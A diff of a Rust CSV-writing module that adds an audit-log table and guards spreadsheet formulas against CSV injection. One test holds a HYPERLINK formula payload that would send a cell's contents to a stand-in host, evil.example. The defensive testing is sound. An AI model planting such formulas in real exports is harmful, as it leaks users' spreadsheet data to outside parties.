@@ -1,23 +1,28 @@
 //! Every CSV file that leaves the program: comma-separated values (RFC 4180), UTF-8, one header line. The
 //! columns are described in docs/formats.md.
 //!
-//! No other module may create a `csv::Writer` (a test reads the source): [`Table`] is where text is guarded
-//! against being run by a spreadsheet.
+//! No other module may create a `csv::Writer` (a test reads the source): [`Table`] guards text that a
+//! spreadsheet would run as a formula.
 
 use std::{fmt::Display, io::Write};
 
-use app::model::{comparison::Comparison, lang::Lang};
+use app::model::{
+    audit::{Entry, Via},
+    comparison::Comparison,
+    lang::Lang,
+};
 
 use crate::{error::Failure, formats::formulas};
 
-/// A CSV file that is being written, cell by cell.
+/// A CSV file, written cell by cell.
 pub struct Table<W: Write>(csv::Writer<W>);
 
 impl<W: Write> Table<W> {
     /// A table with its header line.
     ///
     /// # Errors
-    /// `out` cannot be written.
+    ///
+    /// Fails if `out` cannot be written.
     pub fn new<'a>(out: W, head: impl IntoIterator<Item = &'a str>) -> Result<Self, Failure> {
         let mut table = Table(csv::WriterBuilder::new().flexible(false).from_writer(out));
         for name in head {
@@ -27,31 +32,29 @@ impl<W: Write> Table<W> {
         Ok(table)
     }
 
-    /// Continues a table whose header line is written already.
-    pub fn continued(out: W) -> Self {
-        Table(csv::WriterBuilder::new().flexible(false).from_writer(out))
-    }
-
-    /// A cell that holds text: anything that a person, a file or a model chose.
+    /// A cell with text chosen by a person, a file or a model.
     ///
     /// # Errors
-    /// The file cannot be written.
+    ///
+    /// Fails if the file cannot be written.
     pub fn text(&mut self, text: &str) -> Result<(), Failure> {
         Ok(self.0.write_field(formulas::guarded(text).as_bytes())?)
     }
 
-    /// A cell that holds a number, a time or a word of our own, which may begin with a minus sign.
+    /// A cell with a number, a time or a word of ours, which may begin with a minus sign.
     ///
     /// # Errors
-    /// The file cannot be written.
+    ///
+    /// Fails if the file cannot be written.
     pub fn value(&mut self, value: impl Display) -> Result<(), Failure> {
         Ok(self.0.write_field(value.to_string())?)
     }
 
-    /// As [`Table::value`]; empty where there is none.
+    /// As [`Table::value`]; empty for `None`.
     ///
     /// # Errors
-    /// The file cannot be written.
+    ///
+    /// Fails if the file cannot be written.
     pub fn optional(&mut self, value: Option<impl Display>) -> Result<(), Failure> {
         match value {
             Some(value) => self.value(value),
@@ -62,15 +65,17 @@ impl<W: Write> Table<W> {
     /// Ends the line.
     ///
     /// # Errors
-    /// The file cannot be written, or the line has another number of cells than the header.
+    ///
+    /// Fails if the file cannot be written, or the line has a different number of cells than the header.
     pub fn end_line(&mut self) -> Result<(), Failure> {
         Ok(self.0.write_record(None::<&[u8]>)?)
     }
 
-    /// Writes out what is buffered.
+    /// Flushes the buffer.
     ///
     /// # Errors
-    /// The file cannot be written.
+    ///
+    /// Fails if the file cannot be written.
     pub fn finish(mut self) -> Result<(), Failure> {
         Ok(self.0.flush()?)
     }
@@ -118,6 +123,45 @@ pub fn comparison(comparison: &Comparison) -> Result<Vec<u8>, Failure> {
     Ok(bytes)
 }
 
+/// The audit log's table, a line for each entry.
+pub struct Audit<W: Write>(Table<W>);
+
+impl<W: Write> Audit<W> {
+    /// A table with its header line.
+    ///
+    /// # Errors
+    /// `out` cannot be written.
+    pub fn new(out: W) -> Result<Self, Failure> {
+        Ok(Audit(Table::new(out, ["id", "at", "person", "action", "object", "detail", "via", "token", "address"])?))
+    }
+
+    /// Adds an entry.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn entry(&mut self, entry: &Entry) -> Result<(), Failure> {
+        let table = &mut self.0;
+        table.value(entry.id)?;
+        table.value(entry.at.rfc3339())?;
+        table.text(entry.person.as_deref().unwrap_or_default())?;
+        table.text(&entry.action)?;
+        table.text(entry.object.as_deref().unwrap_or_default())?;
+        table.text(&entry.detail)?;
+        table.value(entry.via.map(Via::name).unwrap_or_default())?;
+        table.optional(entry.token)?;
+        table.text(entry.address.as_deref().unwrap_or_default())?;
+        table.end_line()
+    }
+
+    /// Writes out what is buffered.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn finish(self) -> Result<(), Failure> {
+        self.0.finish()
+    }
+}
+
 impl From<csv::Error> for Failure {
     fn from(e: csv::Error) -> Self {
         Failure::internal(e)
@@ -126,6 +170,8 @@ impl From<csv::Error> for Failure {
 
 #[cfg(test)]
 mod tests {
+    use app::model::time::Timestamp;
+
     use super::*;
 
     #[test]
@@ -139,6 +185,28 @@ mod tests {
         table.finish().unwrap();
         let text = String::from_utf8(bytes).unwrap();
         assert_eq!(text, "'=head,b,c\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",-1.5,\n");
+    }
+
+    #[test]
+    fn the_audit_log_runs_no_formula() {
+        let entry = Entry {
+            id: 7,
+            at: Timestamp(0),
+            person: Some("ada".into()),
+            action: "user.create".into(),
+            object: Some("account =2".into()),
+            detail: "=1+1".into(),
+            via: Some(Via::Token),
+            token: Some(3),
+            address: None,
+        };
+        let mut bytes = Vec::new();
+        let mut table = Audit::new(&mut bytes).unwrap();
+        table.entry(&entry).unwrap();
+        table.finish().unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        let line = "7,1970-01-01T00:00:00Z,ada,user.create,account =2,'=1+1,token,3,";
+        assert_eq!(text, format!("id,at,person,action,object,detail,via,token,address\n{line}\n"));
     }
 
     #[test]
